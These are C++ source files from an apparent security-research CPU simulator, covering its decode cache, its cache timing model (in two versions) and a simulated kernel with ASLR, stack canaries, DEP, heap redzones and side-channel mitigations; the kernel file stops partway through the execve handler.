// write and permission change, and `DecodeCache::lookup` refreshes a page
// whose version moved before serving from it. That covers all three
// invalidation sources with no extra hooks:
//   * stores into executable pages (self-modifying code),
//   * execve overlays (the kernel rewrites segments with `write_bytes`),
//   * mprotect-style permission changes (a page remapped non-executable must
//     not serve stale decoded instructions — DEP is enforced per lookup).
// `clflush` of a code line additionally drops the page's decoded state
// explicitly, mirroring how flushing code lines forces a front-end refetch.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "isa/isa.hpp"
#include "sim/memory.hpp"

namespace crs::sim {

/// One instruction decoded into its dispatch-ready form: the architectural
/// fields plus the per-step classification the dispatch loop needs.
struct DecodedSlot {
  enum State : std::uint8_t { kEmpty = 0, kValid, kIllegal };
  isa::Instruction instr{};
  isa::OpClass cls = isa::OpClass::kNop;
  bool reads_rs1 = false;
  bool reads_rs2 = false;
  /// Conditional branch carrying a speculation-barrier hint (non-zero rd
  /// planted by the mitigation fence pass). Decoded here so the CPU's
  /// dispatch sees it for free; honored only under
  /// CpuConfig::honor_fence_hints. Page-version coherence guarantees a
  /// fence pass rewriting a page is visible on the next fetch.
  bool fence_after = false;
  State state = kEmpty;
};

/// Decodes the aligned instruction at `pc` straight from memory (no caching);
/// `pc + 8` must be in range. Shared by the cache fill and the uncached
/// fallback path in `Cpu`.
DecodedSlot decode_slot(const Memory& memory, std::uint64_t pc);

struct DecodeCacheStats {
  std::uint64_t hits = 0;            ///< lookups served without decoding
  std::uint64_t slot_decodes = 0;    ///< isa::decode calls performed
  std::uint64_t page_refreshes = 0;  ///< version-mismatch page resets
  std::uint64_t explicit_invalidations = 0;  ///< clflush-driven page drops
};

class DecodeCache {
 public:
  explicit DecodeCache(const Memory& memory) : memory_(memory) {}

  /// Decoded slot for the 8-byte-aligned `pc`. Returns nullptr iff the page
  /// does not grant execute permission (the caller raises the DEP fault);
  /// otherwise the slot is kValid or kIllegal. Pages are (re)decoded lazily;
  /// a page whose memory version moved is refreshed before use. The returned
  /// pointer is invalidated by the next lookup/invalidate — copy the slot if
  /// execution can re-enter the cache (wrong-path episodes do).
  ///
  /// The common case — page allocated, version current, slot decoded — is
  /// inlined here; this runs once per simulated instruction, so an
  /// out-of-line call per lookup costs more than the cache saves.
  const DecodedSlot* lookup(std::uint64_t pc) {
    const std::uint64_t page_index = pc / Memory::kPageSize;
    if (page_index < pages_.size()) {
      Page* page = pages_[page_index].get();
      if (page != nullptr && page->version == memory_.page_version(page_index)) {
        if (!page->exec) return nullptr;  // DEP: caller raises the fault
        const DecodedSlot& slot =
            page->slots[(pc & (Memory::kPageSize - 1)) / isa::kInstructionSize];
        if (slot.state != DecodedSlot::kEmpty) {
          ++stats_.hits;
          return &slot;
        }
      }
    }
    return lookup_slow(pc);
  }

  /// Drops decoded state for the page containing `addr` (clflush of a code
  /// line): the next fetch from that page re-decodes from memory.
  void invalidate(std::uint64_t addr);

  const DecodeCacheStats& stats() const { return stats_; }

 private:
  struct Page {
    std::uint32_t version = 0;  ///< 0 never matches (Memory starts at 1)
    bool exec = false;
    std::vector<DecodedSlot> slots;
  };

  static constexpr std::size_t kSlotsPerPage =
      Memory::kPageSize / isa::kInstructionSize;

  /// Allocation, version-refresh, and first-decode path for `lookup`.
  const DecodedSlot* lookup_slow(std::uint64_t pc);

  const Memory& memory_;
  std::vector<std::unique_ptr<Page>> pages_;  // indexed by page number, lazy
  DecodeCacheStats stats_;
};

}  // namespace crs::sim
