// Set-associative cache timing model.
//
// The caches hold no data (the architectural state lives in sim::Memory);
// they model *presence and latency*, which is all the flush+reload covert
// channel and the HPC cache-event counters need. Speculative (wrong-path)
// loads go through the same hierarchy, so transiently-accessed lines stay
// resident after a squash — the micro-architectural side effect Spectre
// leaks through.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "obs/obs.hpp"

namespace crs::sim {

struct CacheConfig {
  std::uint32_t size_bytes = 32 * 1024;
  std::uint32_t line_size = 64;
  std::uint32_t ways = 8;
  /// Way partitioning (mitigation): ways reserved for the victim domain
  /// (addresses below the runtime partition boundary). 0 disables. The
  /// remaining `ways - partition_ways` serve the other domain, so neither
  /// side can evict the other's lines. Fills are restricted per domain;
  /// hits are found wherever the line lives (lines resident before the
  /// boundary was set stay usable).
  std::uint32_t partition_ways = 0;
};

/// Per-level access statistics. Plain (non-atomic) counters: a CacheLevel
/// belongs to exactly one Machine and machines never cross threads, so the
/// counts are deterministic; they are folded into the MetricsRegistry once
/// per run by Machine::publish_metrics.
struct CacheLevelStats {
  std::uint64_t hits = 0;
  std::uint64_t misses = 0;
  std::uint64_t evictions = 0;  ///< misses that displaced a valid line
  // Partition counters are maintained unconditionally (not obs-gated):
  // they only tick when way partitioning is armed, which is off the
  // default hot path, and the defense matrix reads them as ground truth
  // regardless of the observability build flavour.
  std::uint64_t partition_fills = 0;  ///< fills under an active partition
  /// Fills where the set-wide LRU victim lived in the other domain's ways
  /// — the cross-domain evictions the partition prevented.
  std::uint64_t partition_blocked = 0;
};

/// One level of set-associative cache with LRU replacement.
class CacheLevel {
 public:
  explicit CacheLevel(const CacheConfig& config);

  /// Touches the line containing `addr`: returns true on hit. On miss the
  /// line is filled (LRU victim evicted).
  ///
  /// The MRU-line memo is inlined: consecutive accesses to one line
  /// (instruction fetch walks 8 slots per 64-byte line) skip the
  /// associative search. Replacement state is updated exactly as the search
  /// path would, and the valid+tag recheck makes eviction/flush of the
  /// memoized way fall through to the search.
  bool access(std::uint64_t addr) {
    const std::uint64_t line = addr >> line_shift_;
    if (line == mru_line_ && mru_way_ != nullptr && mru_way_->valid &&
        mru_way_->tag == (line >> sets_shift_)) {
      mru_way_->lru = ++use_counter_;
      if constexpr (obs::kEnabled) ++stats_.hits;
      return true;
    }
    return access_search(addr);
  }

  /// Credits `n` deferred accesses that are guaranteed memo hits. The
  /// threaded-code block engine batches consecutive instruction fetches of
  /// one line: only fetches ever touch the L1I mid-block, and the full
  /// access() that opened the line memoized it, so each deferred access
  /// would have taken the memo path above. Leaves the level in exactly the
  /// state n eager access() calls would have produced. On an unarmed memo
  /// (fresh or clear()-ed level — the opening access() was dropped, so the
  /// caller's guarantee is void) the batch still advances the use counter
  /// and stats but has no way to stamp; the next real access re-arms.
  void access_repeat_hits(std::uint64_t n) {
    use_counter_ += n;
    if (mru_way_ != nullptr) mru_way_->lru = use_counter_;
    if constexpr (obs::kEnabled) stats_.hits += n;
  }

  /// True when the line is resident. No state change (for tests/debug).
  bool probe(std::uint64_t addr) const;

  /// Evicts the line containing `addr` if resident.
  void flush_line(std::uint64_t addr);

  /// Invalidates everything.
  void clear();

  std::uint32_t line_size() const { return config_.line_size; }
  std::uint32_t num_sets() const { return num_sets_; }

  /// Structural self-check for the fuzzer's algebraic oracle: every set
  /// holds distinct valid tags, no LRU stamp runs ahead of the global use
  /// counter, and the MRU memo (when armed) points at a way consistent with
  /// its remembered line. Returns "" when consistent, else a description of
  /// the first violation.
  std::string check_invariants() const;

  /// Valid lines currently resident (for occupancy bounds).
  std::size_t occupancy() const;

  /// Arms way partitioning (requires config.partition_ways != 0 to have an
  /// effect): addresses below `boundary` fill into ways
  /// [0, partition_ways), everything else into [partition_ways, ways).
  void set_partition_boundary(std::uint64_t boundary) {
    partition_boundary_ = boundary;
    partition_armed_ = config_.partition_ways != 0 &&
                       config_.partition_ways < config_.ways;
  }
  bool partition_armed() const { return partition_armed_; }

  /// Cumulative access statistics (all zero when CRS_OBS_ENABLED is 0).
  const CacheLevelStats& stats() const { return stats_; }
  void reset_stats() { stats_ = {}; }

 private:
  // Checkpoint/restore copies levels whole and must scrub the MRU memo
  // (a raw pointer into ways_) afterwards.
  friend class SnapshotAccess;

  struct Way {
    bool valid = false;
    std::uint64_t tag = 0;
    std::uint64_t lru = 0;  // larger = more recently used
  };

  std::uint64_t set_index(std::uint64_t addr) const;
  std::uint64_t tag_of(std::uint64_t addr) const;

  /// Associative-search path for `access` (memo miss).
  bool access_search(std::uint64_t addr);

  CacheConfig config_;
  std::uint32_t num_sets_ = 0;
  // line_size and num_sets are enforced powers of two; the hot path uses
  // shifts instead of dividing by the runtime config values.
  std::uint32_t line_shift_ = 0;  ///< log2(line_size)
  std::uint32_t sets_shift_ = 0;  ///< log2(num_sets)
  std::uint64_t use_counter_ = 0;
  std::vector<Way> ways_;  // num_sets_ * config_.ways, row-major by set
  // Last-hit-line memo (pure speed; ways_ never reallocates after the
  // constructor, so the pointer stays valid for the object's lifetime).
  std::uint64_t mru_line_ = ~0ull;
  Way* mru_way_ = nullptr;
  // Way partitioning (off until set_partition_boundary arms it).
  bool partition_armed_ = false;
  std::uint64_t partition_boundary_ = 0;
  CacheLevelStats stats_;
};

/// Latencies in cycles for each residence level.
struct HierarchyTimings {
  std::uint32_t l1_hit = 3;
  std::uint32_t l2_hit = 14;
  std::uint32_t memory = 120;
  std::uint32_t fetch_l1_hit = 0;  ///< fetch hit adds no stall (pipelined)
  std::uint32_t fetch_l1_miss = 8;
  std::uint32_t flush_cost = 36;
};

struct HierarchyConfig {
  CacheConfig l1d{32 * 1024, 64, 8};
  CacheConfig l1i{32 * 1024, 64, 8};
  CacheConfig l2{256 * 1024, 64, 8};
  HierarchyTimings timings;
};

/// What a data access did, so the CPU can attribute PMU events.
struct AccessOutcome {
  bool l1_hit = false;
  bool l2_hit = false;
  std::uint32_t latency = 0;
};

/// Two-level data hierarchy plus an instruction cache. Inclusive-ish: fills
/// propagate to both levels; clflush evicts from both (as x86 clflush
/// evicts from the whole hierarchy).
class MemoryHierarchy {
 public:
  explicit MemoryHierarchy(const HierarchyConfig& config = {});

  AccessOutcome access_data(std::uint64_t addr);

  /// Instruction fetch: returns {hit, stall_cycles}. Inlined — this runs
  /// once per simulated instruction.
  struct FetchOutcome {
    bool l1i_hit = false;
    std::uint32_t latency = 0;
  };
  FetchOutcome access_fetch(std::uint64_t addr) {
    FetchOutcome out;
    out.l1i_hit = l1i_.access(addr);
    if (out.l1i_hit) {
      out.latency = config_.timings.fetch_l1_hit;
      return out;
    }
    // Instruction misses are backed by the shared L2 as well.
    const bool l2_hit = l2_.access(addr);
    out.latency = config_.timings.fetch_l1_miss +
                  (l2_hit ? 0 : config_.timings.memory / 4);
    return out;
  }

  /// Batched same-line fetch hits (see CacheLevel::access_repeat_hits).
  void fetch_repeat_hits(std::uint64_t n) { l1i_.access_repeat_hits(n); }

  /// clflush semantics: evict the data line everywhere.
  void flush_data(std::uint64_t addr);

  /// Kernel-entry hygiene (mitigation): invalidates both L1 caches, leaving
  /// the L2 warm, as an L1-flush-on-context-switch kernel would. Returns
  /// the number of valid lines dropped.
  std::size_t flush_l1();

  /// Arms way partitioning on the data-side levels (L1D + L2) whose config
  /// reserves partition_ways. Addresses below `boundary` are the victim
  /// domain. The L1I is left unpartitioned: the covert channels here are
  /// data-side.
  void set_partition_boundary(std::uint64_t boundary) {
    l1d_.set_partition_boundary(boundary);
    l2_.set_partition_boundary(boundary);
  }

  void clear();

  const HierarchyTimings& timings() const { return config_.timings; }
  std::uint32_t line_size() const { return config_.l1d.line_size; }

  /// Residence probes for tests and the covert-channel unit tests.
  bool l1d_resident(std::uint64_t addr) const { return l1d_.probe(addr); }
  bool l2_resident(std::uint64_t addr) const { return l2_.probe(addr); }

  /// Per-level stats for observability cross-checks and publishing.
  const CacheLevel& l1d() const { return l1d_; }
  const CacheLevel& l1i() const { return l1i_; }
  const CacheLevel& l2() const { return l2_; }

  /// Adds this hierarchy's per-level hit/miss/eviction totals into the
  /// MetricsRegistry under `<prefix>.l1d.*` / `.l1i.*` / `.l2.*`. Call once
  /// per machine at the end of a run.
  void publish_metrics(const std::string& prefix) const;

  /// Runs check_invariants on every level; "" when all are consistent.
  std::string check_invariants() const;

 private:
  friend class SnapshotAccess;  // checkpoint/restore (sim/snapshot.cpp)

  HierarchyConfig config_;
  CacheLevel l1d_;
  CacheLevel l1i_;
  CacheLevel l2_;
};

}  // namespace crs::sim
