// Set-associative cache timing model.
//
// The caches hold no data (the architectural state lives in sim::Memory);
// they model *presence and latency*, which is all the flush+reload covert
// channel and the HPC cache-event counters need. Speculative (wrong-path)
// loads go through the same hierarchy, so transiently-accessed lines stay
// resident after a squash — the micro-architectural side effect Spectre
// leaks through.
#pragma once

#include <cstdint>
#include <vector>

namespace crs::sim {

struct CacheConfig {
  std::uint32_t size_bytes = 32 * 1024;
  std::uint32_t line_size = 64;
  std::uint32_t ways = 8;
};

/// One level of set-associative cache with LRU replacement.
class CacheLevel {
 public:
  explicit CacheLevel(const CacheConfig& config);

  /// Touches the line containing `addr`: returns true on hit. On miss the
  /// line is filled (LRU victim evicted).
  bool access(std::uint64_t addr);

  /// True when the line is resident. No state change (for tests/debug).
  bool probe(std::uint64_t addr) const;

  /// Evicts the line containing `addr` if resident.
  void flush_line(std::uint64_t addr);

  /// Invalidates everything.
  void clear();

  std::uint32_t line_size() const { return config_.line_size; }
  std::uint32_t num_sets() const { return num_sets_; }

 private:
  struct Way {
    bool valid = false;
    std::uint64_t tag = 0;
    std::uint64_t lru = 0;  // larger = more recently used
  };

  std::uint64_t set_index(std::uint64_t addr) const;
  std::uint64_t tag_of(std::uint64_t addr) const;

  CacheConfig config_;
  std::uint32_t num_sets_ = 0;
  std::uint64_t use_counter_ = 0;
  std::vector<Way> ways_;  // num_sets_ * config_.ways, row-major by set
};

/// Latencies in cycles for each residence level.
struct HierarchyTimings {
  std::uint32_t l1_hit = 3;
  std::uint32_t l2_hit = 14;
  std::uint32_t memory = 120;
  std::uint32_t fetch_l1_hit = 0;  ///< fetch hit adds no stall (pipelined)
  std::uint32_t fetch_l1_miss = 8;
  std::uint32_t flush_cost = 36;
};

struct HierarchyConfig {
  CacheConfig l1d{32 * 1024, 64, 8};
  CacheConfig l1i{32 * 1024, 64, 8};
  CacheConfig l2{256 * 1024, 64, 8};
  HierarchyTimings timings;
};

/// What a data access did, so the CPU can attribute PMU events.
struct AccessOutcome {
  bool l1_hit = false;
  bool l2_hit = false;
  std::uint32_t latency = 0;
};

/// Two-level data hierarchy plus an instruction cache. Inclusive-ish: fills
/// propagate to both levels; clflush evicts from both (as x86 clflush
/// evicts from the whole hierarchy).
class MemoryHierarchy {
 public:
  explicit MemoryHierarchy(const HierarchyConfig& config = {});

  AccessOutcome access_data(std::uint64_t addr);

  /// Instruction fetch: returns {hit, stall_cycles}.
  struct FetchOutcome {
    bool l1i_hit = false;
    std::uint32_t latency = 0;
  };
  FetchOutcome access_fetch(std::uint64_t addr);

  /// clflush semantics: evict the data line everywhere.
  void flush_data(std::uint64_t addr);

  void clear();

  const HierarchyTimings& timings() const { return config_.timings; }
  std::uint32_t line_size() const { return config_.l1d.line_size; }

  /// Residence probes for tests and the covert-channel unit tests.
  bool l1d_resident(std::uint64_t addr) const { return l1d_.probe(addr); }
  bool l2_resident(std::uint64_t addr) const { return l2_.probe(addr); }

 private:
  HierarchyConfig config_;
  CacheLevel l1d_;
  CacheLevel l1i_;
  CacheLevel l2_;
};

}  // namespace crs::sim
