#include "sim/kernel.hpp"

#include <algorithm>

#include "obs/metrics.hpp"
#include "obs/trace.hpp"
#include "support/error.hpp"

namespace crs::sim {

namespace {
constexpr std::uint64_t kMaxWriteLen = 1 << 20;
constexpr std::uint64_t kMaxPathLen = 256;
constexpr std::uint64_t kRedzoneBytes = 16;

// Position-dependent redzone fill: a constant-byte overflow (memset-style)
// still tears it, unlike a single magic byte.
std::uint8_t redzone_byte(std::uint64_t addr, std::uint64_t i) {
  return static_cast<std::uint8_t>(0xA5u ^ (addr >> 4) ^ (i * 0x3Bu));
}
}  // namespace

Machine::Machine(const MachineConfig& config)
    : config_(config),
      memory_(config.memory_size),
      hierarchy_(config.hierarchy),
      predictor_(config.predictor),
      pmu_(),
      cpu_(memory_, hierarchy_, predictor_, pmu_, config.cpu) {}

Kernel::Kernel(Machine& machine, const KernelConfig& config)
    : machine_(machine), config_(config), rng_(config.seed) {
  next_stack_top_ = machine_.memory().size();
}

void Kernel::register_binary(const std::string& path, Program program) {
  registry_[path] = std::move(program);
}

bool Kernel::has_binary(const std::string& path) const {
  return registry_.count(path) != 0;
}

LoadInfo Kernel::map_image(const std::string& path, const Program& program) {
  Memory& mem = machine_.memory();
  CRS_ENSURE(!program.segments.empty(),
             "program '" + program.name + "' has no segments");

  std::uint64_t delta = 0;
  const auto fits = [&](std::uint64_t d) {
    for (const auto& seg : program.segments) {
      const std::uint64_t lo = seg.addr + d;
      const std::uint64_t hi = lo + seg.bytes.size();
      if (hi > next_stack_top_) return false;  // would run into stacks
      for (const auto& li : load_order_) {
        if (lo < li.hi && li.lo < hi) return false;  // overlap
      }
    }
    return true;
  };

  if (config_.aslr) {
    bool placed = false;
    for (int attempt = 0; attempt < 64 && !placed; ++attempt) {
      const std::uint64_t pages = config_.aslr_range / Memory::kPageSize;
      delta = rng_.next_below(pages) * Memory::kPageSize;
      placed = fits(delta);
    }
    CRS_ENSURE(placed, "ASLR could not place image '" + program.name + "'");
    ++hstats_.images_randomized;
  } else {
    CRS_ENSURE(fits(0), "image '" + program.name + "' does not fit");
  }

  LoadInfo info;
  info.path = path;
  info.base_delta = delta;
  info.entry = program.entry + delta;
  info.lo = ~0ull;
  info.hi = 0;

  for (std::size_t si = 0; si < program.segments.size(); ++si) {
    const Segment& seg = program.segments[si];
    std::vector<std::uint8_t> bytes = seg.bytes;
    for (const Relocation& rel : program.relocations) {
      if (rel.segment != si) continue;
      if (rel.kind == RelocKind::kImm32) {
        CRS_ENSURE(rel.offset + 4 <= bytes.size(), "relocation out of range");
        std::uint32_t v = 0;
        for (int i = 3; i >= 0; --i) v = (v << 8) | bytes[rel.offset + static_cast<std::uint64_t>(i)];
        v += static_cast<std::uint32_t>(delta);
        for (int i = 0; i < 4; ++i)
          bytes[rel.offset + static_cast<std::uint64_t>(i)] =
              static_cast<std::uint8_t>(v >> (8 * i));
      } else {
        CRS_ENSURE(rel.offset + 8 <= bytes.size(), "relocation out of range");
        std::uint64_t v = 0;
        for (int i = 7; i >= 0; --i) v = (v << 8) | bytes[rel.offset + static_cast<std::uint64_t>(i)];
        v += delta;
        for (int i = 0; i < 8; ++i)
          bytes[rel.offset + static_cast<std::uint64_t>(i)] =
              static_cast<std::uint8_t>(v >> (8 * i));
      }
    }
    const std::uint64_t lo = seg.addr + delta;
    mem.write_bytes(lo, bytes);
    mem.set_permissions(lo, std::max<std::uint64_t>(bytes.size(), 1), seg.perm);
    info.lo = std::min(info.lo, lo);
    info.hi = std::max(info.hi, lo + bytes.size());
  }

  // Publish a fresh stack canary if the image declares one.
  const auto canary_sym = program.symbols.find("__canary");
  if (canary_sym != program.symbols.end()) {
    mem.write_u64(canary_sym->second + delta, rng_.next_u64());
    ++hstats_.canaries_planted;
  }

  loaded_[path] = info;
  load_order_.push_back(info);
  if (load_hook_) {
    load_hook_(machine_, info, load_order_.size() == 1);
  }
  return info;
}

void Kernel::start(const std::string& path,
                   std::span<const std::vector<std::uint8_t>> args) {
  start_impl(path, args, nullptr);
}

void Kernel::start_probe(const std::string& victim_path,
                         const std::string& probe_path,
                         std::span<const std::vector<std::uint8_t>> args) {
  start_impl(victim_path, args, &probe_path);
}

void Kernel::start_impl(const std::string& path,
                        std::span<const std::vector<std::uint8_t>> args,
                        const std::string* probe_path) {
  const auto it = registry_.find(path);
  CRS_ENSURE(it != registry_.end(), "start: unknown binary '" + path + "'");

  output_.clear();
  exit_code_ = 0;
  execve_count_ = 0;
  saved_contexts_.clear();
  loaded_.clear();
  load_order_.clear();
  injected_stack_tops_.clear();
  heap_bump_ = config_.heap_base;
  heap_chunks_.clear();
  // If a prior run stopped mid-injection (e.g. instruction limit) the host's
  // data pages are still kPermNone; restore them before the old mapping is
  // forgotten, or the new (ASLR-shifted) image may not re-cover those pages.
  ward_unlock_host();
  next_stack_top_ = machine_.memory().size();
  if (config_.aslr_stack) {
    // Stack ASLR: the whole carve shifts down by a page-aligned delta. This
    // is the FIRST draw of a run, before map_image's image delta and canary
    // draws, so probe and exploit passes replay the same layout.
    const std::uint64_t pages = config_.aslr_stack_range / Memory::kPageSize;
    next_stack_top_ -= rng_.next_below(pages) * Memory::kPageSize;
    ++hstats_.stacks_randomized;
  }

  // Carve the main stack from the top of memory (RW, not executable: DEP).
  Memory& mem = machine_.memory();
  const std::uint64_t stack_top = next_stack_top_;
  const std::uint64_t stack_lo = stack_top - config_.stack_size;
  mem.set_permissions(stack_lo, config_.stack_size, kPermRW);
  next_stack_top_ = stack_lo - Memory::kPageSize;  // guard gap

  const LoadInfo info = map_image(path, it->second);

  // Marshal argv below the stack top.
  std::uint64_t cursor = stack_top;
  std::vector<std::uint64_t> addrs;
  std::vector<std::uint64_t> lens;
  for (const auto& arg : args) {
    cursor -= arg.size();
    cursor &= ~7ull;
    mem.write_bytes(cursor, arg);
    addrs.push_back(cursor);
    lens.push_back(arg.size());
  }
  cursor -= 8 * args.size();
  const std::uint64_t argv_ptrs = cursor;
  for (std::size_t i = 0; i < addrs.size(); ++i) mem.write_u64(argv_ptrs + 8 * i, addrs[i]);
  cursor -= 8 * args.size();
  const std::uint64_t arg_lens = cursor;
  for (std::size_t i = 0; i < lens.size(); ++i) mem.write_u64(arg_lens + 8 * i, lens[i]);
  cursor &= ~15ull;

  Cpu& cpu = machine_.cpu();
  cpu.set_syscall_handler([this](Cpu& c) { return handle_syscall(c); });
  cpu.reset(info.entry, cursor);
  cpu.set_reg(1, args.size());
  cpu.set_reg(2, argv_ptrs);
  cpu.set_reg(3, arg_lens);

  if (probe_path) {
    // Every victim draw is done; mapping the probe afterwards cannot shift
    // the layout under study. The probe runs on the victim's stack with the
    // victim's argv — a hijacked entry, not a separate process.
    const auto pit = registry_.find(*probe_path);
    CRS_ENSURE(pit != registry_.end(),
               "start_probe: unknown binary '" + *probe_path + "'");
    const LoadInfo pinfo = map_image(*probe_path, pit->second);
    cpu.set_pc(pinfo.entry);
  }
}

void Kernel::start_with_strings(const std::string& path,
                                const std::vector<std::string>& args) {
  std::vector<std::vector<std::uint8_t>> raw;
  raw.reserve(args.size());
  for (const auto& a : args) raw.emplace_back(a.begin(), a.end());
  start(path, raw);
}

StopReason Kernel::run(std::uint64_t max_instructions) {
  return machine_.cpu().run(max_instructions);
}

StopReason Kernel::run_until_cycle(std::uint64_t cycle_target,
                                   std::uint64_t max_instructions) {
  return machine_.cpu().run_until_cycle(cycle_target, max_instructions);
}

std::string Kernel::output_string() const {
  return std::string(output_.begin(), output_.end());
}

const LoadInfo& Kernel::main_image() const {
  CRS_ENSURE(!load_order_.empty(), "no image loaded");
  return load_order_.front();
}

std::uint64_t Kernel::resolved_symbol(const std::string& path,
                                      const std::string& label) const {
  const auto li = loaded_.find(path);
  CRS_ENSURE(li != loaded_.end(), "image '" + path + "' is not mapped");
  const auto pi = registry_.find(path);
  CRS_ENSURE(pi != registry_.end(), "image '" + path + "' is not registered");
  return pi->second.symbol(label) + li->second.base_delta;
}

void Kernel::switch_hygiene(Cpu& cpu) {
  // Kernel-entry scrubbing (mitigation): every trap is a protection-domain
  // boundary, so predictor state and (optionally) L1 contents trained on
  // one side are dropped before the other runs again.
  if (config_.flush_predictors_on_switch) {
    ++kstats_.predictor_flushes;
    kstats_.predictor_entries_flushed += cpu.predictor().flush_all();
  }
  if (config_.flush_l1_on_switch) {
    ++kstats_.l1_flushes;
    kstats_.l1_lines_flushed += machine_.hierarchy().flush_l1();
  }
}

void Kernel::ward_lock_host() {
  // Hide the host's non-executable pages (its data, including the secret)
  // while the injected image runs. Code pages stay mapped — the injected
  // chain legitimately returns through host gadgets.
  const LoadInfo& host = load_order_.front();
  const auto prog = registry_.find(host.path);
  CRS_ENSURE(prog != registry_.end(), "ward: host program not registered");
  Memory& mem = machine_.memory();
  ++kstats_.ward_lockouts;
  for (const Segment& seg : prog->second.segments) {
    if ((seg.perm & kPermExec) != 0 || seg.bytes.empty()) continue;
    const std::uint64_t lo = seg.addr + host.base_delta;
    ward_locks_.push_back(WardLock{lo, seg.bytes.size(), seg.perm});
    mem.set_permissions(lo, seg.bytes.size(), kPermNone);
    kstats_.ward_pages_locked +=
        (lo % Memory::kPageSize + seg.bytes.size() + Memory::kPageSize - 1) /
        Memory::kPageSize;
  }
}

void Kernel::ward_unlock_host() {
  Memory& mem = machine_.memory();
  for (const WardLock& lock : ward_locks_) {
    mem.set_permissions(lock.addr, lock.len, lock.perm);
  }
  ward_locks_.clear();
}

SyscallOutcome Kernel::handle_syscall(Cpu& cpu) {
  switch_hygiene(cpu);
  const std::uint64_t number = cpu.reg(0);
  switch (number) {
    case kSysExit: {
      if (!saved_contexts_.empty()) {
        // The injected binary finished: resume the host behind the syscall
        // gadget, exactly as the ROP chain laid it out.
        const SavedContext ctx = saved_contexts_.back();
        saved_contexts_.pop_back();
        for (int r = 0; r < isa::kNumRegisters; ++r) cpu.set_reg(r, ctx.regs[r]);
        cpu.set_pc(ctx.pc);
        if (saved_contexts_.empty() && !ward_locks_.empty()) {
          ward_unlock_host();  // host is back in control: remap its data
        }
        return SyscallOutcome::kContinue;
      }
      exit_code_ = static_cast<std::int64_t>(cpu.reg(1));
      obs::trace_instant("kernel.exit", cpu.cycle(),
                         static_cast<double>(exit_code_));
      return SyscallOutcome::kHalt;
    }
    case kSysWrite: {
      const std::uint64_t addr = cpu.reg(2);
      const std::uint64_t len = cpu.reg(3);
      if (len > kMaxWriteLen ||
          !machine_.memory().check(addr, std::max<std::uint64_t>(len, 1),
                                   AccessKind::kRead)) {
        cpu.set_reg(0, static_cast<std::uint64_t>(-1));
        return SyscallOutcome::kContinue;
      }
      const auto bytes = machine_.memory().read_bytes(addr, len);
      output_.insert(output_.end(), bytes.begin(), bytes.end());
      cpu.set_reg(0, len);
      return SyscallOutcome::kContinue;
    }
    case kSysExecve:
      return do_execve(cpu);
    case kSysGetRandom: {
      const std::uint64_t addr = cpu.reg(1);
      const std::uint64_t len = cpu.reg(2);
      if (!machine_.memory().check(addr, std::max<std::uint64_t>(len, 1),
                                   AccessKind::kWrite)) {
        cpu.set_reg(0, static_cast<std::uint64_t>(-1));
        return SyscallOutcome::kContinue;
      }
      for (std::uint64_t i = 0; i < len; ++i) {
        machine_.memory().write_u8(addr + i,
                                   static_cast<std::uint8_t>(rng_.next_u64()));
      }
      cpu.set_reg(0, len);
      return SyscallOutcome::kContinue;
    }
    case kSysAbort:
      ++hstats_.canary_aborts;
      obs::trace_instant("kernel.abort", cpu.cycle());
      cpu.raise_fault(FaultKind::kStackCanary, cpu.sp());
      return SyscallOutcome::kHalt;
    case kSysHeapAlloc:
      return do_heap_alloc(cpu);
    case kSysHeapFree:
      return do_heap_free(cpu);
    default:
      cpu.set_reg(0, static_cast<std::uint64_t>(-1));  // ENOSYS
      return SyscallOutcome::kContinue;
  }
}

SyscallOutcome Kernel::do_heap_alloc(Cpu& cpu) {
  std::uint64_t size = std::max<std::uint64_t>(cpu.reg(1), 1);
  size = (size + 15) & ~15ull;  // 16-byte granules
  // Free-list reuse first (first fit); the chunk keeps its original carve.
  for (HeapChunk& chunk : heap_chunks_) {
    if (!chunk.live && chunk.size >= size) {
      chunk.live = true;
      ++hstats_.heap_allocs;
      if (config_.heap_guard) paint_redzones(chunk);
      cpu.set_reg(0, chunk.addr);
      return SyscallOutcome::kContinue;
    }
  }
  const std::uint64_t guard = config_.heap_guard ? kRedzoneBytes : 0;
  const std::uint64_t need = size + 2 * guard;
  const std::uint64_t heap_end = config_.heap_base + config_.heap_size;
  CRS_ENSURE(heap_end <= machine_.memory().size(),
             "heap region exceeds machine memory");
  if (heap_bump_ + need > heap_end) {
    cpu.set_reg(0, 0);  // out of heap
    return SyscallOutcome::kContinue;
  }
  const std::uint64_t lo = heap_bump_;
  heap_bump_ += need;
  machine_.memory().set_permissions(lo, need, kPermRW);
  HeapChunk chunk{lo + guard, size, true};
  if (config_.heap_guard) paint_redzones(chunk);
  heap_chunks_.push_back(chunk);
  ++hstats_.heap_allocs;
  cpu.set_reg(0, chunk.addr);
  return SyscallOutcome::kContinue;
}

SyscallOutcome Kernel::do_heap_free(Cpu& cpu) {
  const std::uint64_t addr = cpu.reg(1);
  for (HeapChunk& chunk : heap_chunks_) {
    if (chunk.addr != addr || !chunk.live) continue;
    if (config_.heap_guard && !check_redzones(chunk)) {
      ++hstats_.redzone_violations;
      obs::trace_instant("kernel.redzone", cpu.cycle());
      cpu.raise_fault(FaultKind::kHeapRedzone, chunk.addr);
      return SyscallOutcome::kHalt;
    }
    chunk.live = false;
    ++hstats_.heap_frees;
    cpu.set_reg(0, 0);
    return SyscallOutcome::kContinue;
  }
  cpu.set_reg(0, static_cast<std::uint64_t>(-1));  // unknown or double free
  return SyscallOutcome::kContinue;
}

void Kernel::paint_redzones(const HeapChunk& chunk) {
  Memory& mem = machine_.memory();
  for (std::uint64_t i = 0; i < kRedzoneBytes; ++i) {
    mem.write_u8(chunk.addr - kRedzoneBytes + i, redzone_byte(chunk.addr, i));
    mem.write_u8(chunk.addr + chunk.size + i,
                 redzone_byte(chunk.addr, kRedzoneBytes + i));
  }
}

bool Kernel::check_redzones(const HeapChunk& chunk) {
  Memory& mem = machine_.memory();
  bool ok = true;
  hstats_.redzone_bytes_checked += 2 * kRedzoneBytes;
  for (std::uint64_t i = 0; i < kRedzoneBytes; ++i) {
    ok &= mem.read_u8(chunk.addr - kRedzoneBytes + i) ==
          redzone_byte(chunk.addr, i);
    ok &= mem.read_u8(chunk.addr + chunk.size + i) ==
          redzone_byte(chunk.addr, kRedzoneBytes + i);
  }
  return ok;
}

SyscallOutcome Kernel::do_execve(Cpu& cpu) {
  // Read the NUL-terminated path.
  const std::uint64_t path_addr = cpu.reg(1);
  std::string path;
